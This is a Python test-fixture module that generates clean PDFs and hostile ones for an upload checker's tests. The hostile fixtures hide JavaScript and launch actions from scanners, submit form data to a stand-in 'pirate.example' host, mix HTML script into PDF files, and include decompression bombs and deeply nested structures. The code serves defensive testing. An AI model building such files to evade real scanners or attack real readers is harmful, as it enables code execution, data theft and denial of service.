"""PDFs for the upload tests, written here rather than shipped: good ones (as pypdf, WeasyPrint and
a scanner's software write them) and hostile ones (each a way to hide active content, or to make
a parser spin or swell), built byte by byte where pypdf would not write them."""

from __future__ import annotations

import functools
import io
import zlib

HEADER = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
# A blue rectangle: a page with something on it, no font needed.
CONTENT = b"0.2 0.4 0.8 rg 72 600 300 120 re f"
JS = b"/S /JavaScript /JS (app.alert('bonjour');)"


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), entries) + data + b"\nendstream"


def flate(data: bytes, entries: bytes = b"") -> bytes:
    return stream(zlib.compress(data), b"/Filter /FlateDecode " + entries)


def build(
    objects: dict, *, trailer: bytes = b"", size: int | None = None, listed: int | None = None
) -> bytes:
    """A PDF with a classic cross-reference table. `objects` maps a number, or a (number,
    generation) pair, to the object's body; object 1 is the catalogue. The table lists the
    first `listed` numbers (all by default)."""
    out = io.BytesIO()
    out.write(HEADER)
    entries = {}
    for key, body in objects.items():
        number, generation = key if isinstance(key, tuple) else (key, 0)
        entries[number] = (out.tell(), generation)
        out.write(b"%d %d obj\n" % (number, generation) + body + b"\nendobj\n")
    last = max(entries) if listed is None else listed - 1
    xref = out.tell()
    out.write(b"xref\n0 %d\n" % (last + 1))
    for number in range(last + 1):
        if number in entries:
            out.write(b"%010d %05d n\r\n" % entries[number])
        else:
            out.write(b"0000000000 65535 f\r\n")
    out.write(b"trailer\n<< /Size %d /Root 1 0 R %s >>\n" % (size or last + 1, trailer))
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref)
    return out.getvalue()


def page_objects(*, catalog: bytes = b"", page: bytes = b"", contents: bytes | None = None):
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R " + page + b" >>",
        4: contents if contents is not None else flate(CONTENT),
    }


def document(*, catalog=b"", page=b"", contents=None, objects=None, trailer=b"", size=None):
    """One page with a rectangle; extra entries in the catalogue or the page, extra objects
    (numbered from 5)."""
    return build(
        {**page_objects(catalog=catalog, page=page, contents=contents), **(objects or {})},
        trailer=trailer,
        size=size,
    )


def append_revision(base: bytes, objects: dict[int, bytes]) -> bytes:
    """An incremental update: `objects` replace their namesakes, the rest stays as it was."""
    previous = int(base.rsplit(b"startxref", 1)[1].split()[0])
    out = io.BytesIO()
    out.write(base)
    offsets = {}
    for number, body in objects.items():
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n")
    for number, offset in offsets.items():
        out.write(b"%d 1\n%010d 00000 n\r\n" % (number, offset))
    size = max([*offsets, 4]) + 1
    out.write(b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\n" % (size, previous))
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref)
    return out.getvalue()


def with_object_stream(packed: dict[int, bytes], *, catalog: bytes = b"") -> bytes:
    """PDF 1.5 compression: the objects of `packed` are stored inside a Flate-compressed object
    stream (number 20), listed by a cross-reference stream (number 21)."""
    out = io.BytesIO()
    out.write(HEADER)
    rows = {0: (0, 0, 65535)}
    for number, body in page_objects(catalog=catalog).items():
        rows[number] = (1, out.tell(), 0)
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    index, bodies, position = [], [], 0
    for i, (number, body) in enumerate(packed.items()):
        index.append(b"%d %d" % (number, position))
        bodies.append(body + b"\n")
        position += len(body) + 1
        rows[number] = (2, 20, i)
    head = b" ".join(index) + b"\n"
    rows[20] = (1, out.tell(), 0)
    out.write(
        b"20 0 obj\n"
        + flate(
            head + b"".join(bodies), b"/Type /ObjStm /N %d /First %d" % (len(packed), len(head))
        )
        + b"\nendobj\n"
    )
    rows[21] = (1, out.tell(), 0)
    size = max(rows) + 1
    table = b"".join(
        bytes([kind]) + field.to_bytes(4, "big") + extra.to_bytes(2, "big")
        for kind, field, extra in (rows.get(n, (0, 0, 0)) for n in range(size))
    )
    entries = b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R" % size
    out.write(b"21 0 obj\n" + flate(table, entries) + b"\nendobj\n")
    out.write(b"startxref\n%d\n%%%%EOF\n" % rows[21][1])
    return out.getvalue()


# --- Good PDFs ---------------------------------------------------------------------------------


def plain() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def weasyprint_made() -> bytes:
    """Three pages with headings (bookmarks: a /First ... /Next chain) and a web link."""
    from documents.pdf import html_to_pdf

    sections = "".join(
        f"<h2 style='break-before: page'>Partie {n}</h2><p>Accord de prise en charge n° {n}.</p>"
        for n in range(1, 4)
    )
    return html_to_pdf(
        "<h1>Accord de prise en charge</h1>"
        "<p>Voir <a href='https://www.opcoep.fr/'>le site de l'OPCO</a>.</p>" + sections
    )


def scanned(*, pages: int = 3, width: int = 1240, height: int = 1754, quality: int = 75) -> bytes:
    """As a scanner's software writes them: one JPEG image per page (150 dpi A4 by default),
    with noise so that the images weigh what real scans weigh."""
    from PIL import Image, ImageDraw

    images = []
    for number in range(pages):
        noise = Image.effect_noise((width, height), 24).point(lambda v: 200 + v // 5)
        image = Image.merge("RGB", (noise, noise, noise))
        draw = ImageDraw.Draw(image)
        for line in range(30):
            draw.line((100, 150 + line * 50, width - 100, 150 + line * 50), fill=(40, 40, 40))
        draw.text((100, 80), f"Feuille d'émargement — page {number + 1}", fill=(0, 0, 0))
        images.append(image)
    out = io.BytesIO()
    images[0].save(
        out, "PDF", save_all=True, append_images=images[1:], resolution=150, quality=quality
    )
    return out.getvalue()


def form_with_link_and_opening_view() -> bytes:
    """What harmless interactivity looks like: a fillable field, a web link, an opening view
    (a GoTo action) and a bookmark."""
    return document(
        catalog=b"/AcroForm << /Fields [5 0 R] >> /OpenAction [3 0 R /Fit] /Outlines 7 0 R",
        page=b"/Annots [5 0 R 6 0 R]",
        objects={
            5: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (montant) /Rect [72 500 272 520] "
            b"/P 3 0 R >>",
            6: b"<< /Type /Annot /Subtype /Link /Rect [72 400 272 420] "
            b"/A << /S /URI /URI (https://www.opcoep.fr/) >> >>",
            7: b"<< /Type /Outlines /First 8 0 R /Last 8 0 R /Count 1 >>",
            8: b"<< /Title (Accord) /Parent 7 0 R /Dest [3 0 R /Fit] "
            b"/A << /S /GoTo /D [3 0 R /Fit] >> >>",
        },
    )


# --- Hostile PDFs ------------------------------------------------------------------------------


def encrypted() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter(clone_from=io.BytesIO(plain()))
    writer.encrypt("secret")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def with_attachment() -> bytes:
    """A Factur-X invoice carries its XML this way (a PDF/A-3 embedded file)."""
    from pypdf import PdfWriter

    writer = PdfWriter(clone_from=io.BytesIO(plain()))
    writer.add_attachment("factur-x.xml", b"<rsm:CrossIndustryInvoice/>")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def indirect_javascript_open_action() -> bytes:
    return document(catalog=b"/OpenAction 5 0 R", objects={5: b"<< " + JS + b" >>"})


def direct_javascript_open_action() -> bytes:
    return document(catalog=b"/OpenAction << " + JS + b" >>")


def javascript_in_a_stream() -> bytes:
    """The script as a compressed stream, the way malware usually carries it."""
    return document(
        catalog=b"/OpenAction << /S /JavaScript /JS 5 0 R >>",
        objects={5: flate(b"app.alert('bonjour');")},
    )


def javascript_in_a_link() -> bytes:
    return document(
        page=b"/Annots [5 0 R]",
        objects={5: b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << " + JS + b" >> >>"},
    )


def additional_action(level: str) -> bytes:
    """/AA, run on an event: the document's (before closing), the page's (on opening) or a form
    field's (on each keystroke)."""
    action = b"<< " + JS + b" >>"
    if level == "document":
        return document(catalog=b"/AA << /WC " + action + b" >>")
    if level == "page":
        return document(page=b"/AA << /O " + action + b" >>")
    return document(
        catalog=b"/AcroForm << /Fields [5 0 R] >>",
        page=b"/Annots [5 0 R]",
        objects={
            5: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (montant) /Rect [72 500 272 520] "
            b"/P 3 0 R /AA << /K " + action + b" >> >>"
        },
    )


def direct_launch() -> bytes:
    return document(
        catalog=b"/OpenAction << /S /Launch /F (cmd.exe) "
        b"/Win << /F (cmd.exe) /P (/c calc.exe) >> >>"
    )


def outside_action(kind: str) -> bytes:
    """Actions that send data out or open another file."""
    actions = {
        "SubmitForm": b"<< /S /SubmitForm /F << /FS /URL /F (https://pirate.example/) >> >>",
        "ImportData": b"<< /S /ImportData /F (donnees.fdf) >>",
        "GoToR": b"<< /S /GoToR /F (\\\\\\\\pirate.example\\\\partage\\\\a.pdf) /D [0 /Fit] >>",
        "GoToE": b"<< /S /GoToE /F (autre.pdf) /D [0 /Fit] /T << /R /C /N (x) >> >>",
    }
    return document(catalog=b"/OpenAction " + actions[kind])


def javascript_link_uri() -> bytes:
    return document(
        page=b"/Annots [5 0 R]",
        objects={
            5: b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] "
            b"/A << /S /URI /URI ( javascript:alert\\(1\\)) >> >>"
        },
    )


def rich_media() -> bytes:
    return document(
        page=b"/Annots [5 0 R]",
        objects={
            5: b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] "
            b"/RichMediaContent << /Assets << /Names [] >> >> >>"
        },
    )


def xfa_form() -> bytes:
    return document(
        catalog=b"/AcroForm << /Fields [] /XFA 5 0 R >>",
        objects={5: stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'></xdp:xdp>")},
    )


def javascript_name_tree() -> bytes:
    """Document-level scripts, run on opening: /Names /JavaScript."""
    return document(
        catalog=b"/Names << /JavaScript 5 0 R >>",
        objects={5: b"<< /Names [(init) 6 0 R] >>", 6: b"<< " + JS + b" >>"},
    )


def javascript_at_the_end_of_a_next_chain(length: int = 1000) -> bytes:
    """A harmless opening action followed by `length` more through /Next, the last a script."""
    objects = {}
    for i in range(length):
        number = 5 + i
        objects[number] = b"<< /S /GoTo /D [3 0 R /Fit] /Next %d 0 R >>" % (number + 1)
    objects[5 + length] = b"<< " + JS + b" >>"
    return document(catalog=b"/OpenAction 5 0 R", objects=objects)


def javascript_in_generation_one() -> bytes:
    return document(catalog=b"/OpenAction 5 1 R", objects={(5, 1): b"<< " + JS + b" >>"})


def javascript_with_an_escaped_name() -> bytes:
    """/Java#53cript is /JavaScript to every reader."""
    return document(catalog=b"/OpenAction << /S /Java#53cript /J#53 (app.alert(1)) >>")


def javascript_after_megabytes(megabytes: int = 3) -> bytes:
    """Well past the first bytes any pattern check would read: a large image, then the script."""
    pixels = bytes(range(256)) * (megabytes * 4096)
    image = stream(
        pixels,
        b"/Type /XObject /Subtype /Image /Width 1024 /Height %d /ColorSpace /DeviceGray "
        b"/BitsPerComponent 8" % (len(pixels) // 1024),
    )
    return document(
        catalog=b"/Names << /JavaScript << /Names [(init) 6 0 R] >> >>",
        page=b"/Resources << /XObject << /Im1 5 0 R >> >>",
        objects={5: image, 6: b"<< " + JS + b" >>"},
    )


def launch_behind_an_indirect_action_type() -> bytes:
    """/S 5 0 R, object 5 being the name /Launch: readers resolve it."""
    return document(catalog=b"/OpenAction << /S 5 0 R /F (cmd.exe) >>", objects={5: b"/Launch"})


def javascript_behind_a_repeated_key() -> bytes:
    """/S written twice: one parser keeps the first (a harmless GoTo), another the last."""
    return document(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] " + JS + b" >>")


def javascript_in_an_object_stream() -> bytes:
    return with_object_stream({5: b"<< " + JS + b" >>"}, catalog=b"/OpenAction 5 0 R")


def javascript_in_an_earlier_revision() -> bytes:
    """Revision 1 runs a script on opening; revision 2 replaces the catalogue without it. The
    script is still in the file: a reader that rebuilds the cross-reference may run it."""
    base = document(catalog=b"/OpenAction 5 0 R", objects={5: b"<< " + JS + b" >>"})
    return append_revision(base, {1: b"<< /Type /Catalog /Pages 2 0 R >>"})


def javascript_missing_from_the_cross_reference() -> bytes:
    """The cross-reference lists objects 1 to 4 only; the catalogue names 5, written in the body.
    Readers look for it there."""
    objects = page_objects(catalog=b"/OpenAction 5 0 R")
    return build({**objects, 5: b"<< " + JS + b" >>"}, listed=5)


def html_polyglot() -> bytes:
    """An HTML page a browser would run, with a PDF after it that readers would still open."""
    return b"<html><body><script>alert(document.cookie)</script><!--\n" + plain() + b"-->"


def html_after_the_header() -> bytes:
    return plain().replace(b"%\xe2\xe3\xcf\xd3", b"%<html><script>alert(1)</script>", 1)


@functools.cache
def flate_bomb(megabytes: int = 200) -> bytes:
    """A page whose content stream is 200 KB that inflates to 200 MB of zeros."""
    compressor = zlib.compressobj(9)
    zeros = bytes(1024 * 1024)
    packed = b"".join(compressor.compress(zeros) for _ in range(megabytes)) + compressor.flush()
    return document(contents=stream(packed, b"/Filter /FlateDecode"))


def nested_arrays(depth: int = 10_000) -> bytes:
    return document(catalog=b"/Nested " + b"[" * depth + b"]" * depth)


def nested_dictionaries_hiding_javascript(depth: int = 5_000) -> bytes:
    return document(
        catalog=b"/OpenAction " + b"<< /Next " * depth + b"<< " + JS + b" >>" + b" >>" * depth
    )


def nested_page_tree(depth: int = 3_000) -> bytes:
    """Pages inside pages inside pages: each level its own object."""
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R >>"}
    for level in range(depth):
        number = 2 + level
        objects[number] = b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (number + 1)
    leaf = 2 + depth
    objects[leaf] = b"<< /Type /Page /MediaBox [0 0 595 842] /Contents %d 0 R >>" % (leaf + 1)
    objects[leaf + 1] = flate(CONTENT)
    return build(objects)


def claims_ten_million_objects(megabytes: int = 9) -> bytes:
    """A 9 MB file whose trailer says /Size 10 000 000: the old check looped up to /Size,
    searching the whole file for each missing object (45 minutes of CPU)."""
    padding = stream(b"0" * (megabytes * 1024 * 1024))
    return document(objects={5: padding}, size=10_000_000)


def too_many_objects(count: int = 60_000) -> bytes:
    """Listed in the cross-reference, while the trailer claims a modest /Size."""
    return document(objects={5 + i: b"null" for i in range(count)}, size=5)


def without_pages() -> bytes:
    return build(
        {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [] /Count 0 >>"}
    )


def garbled() -> bytes:
    """A header and an end marker, and nothing a reader can use between them."""
    return HEADER + bytes(range(256)) * 64 + b"\n%%EOF\n"
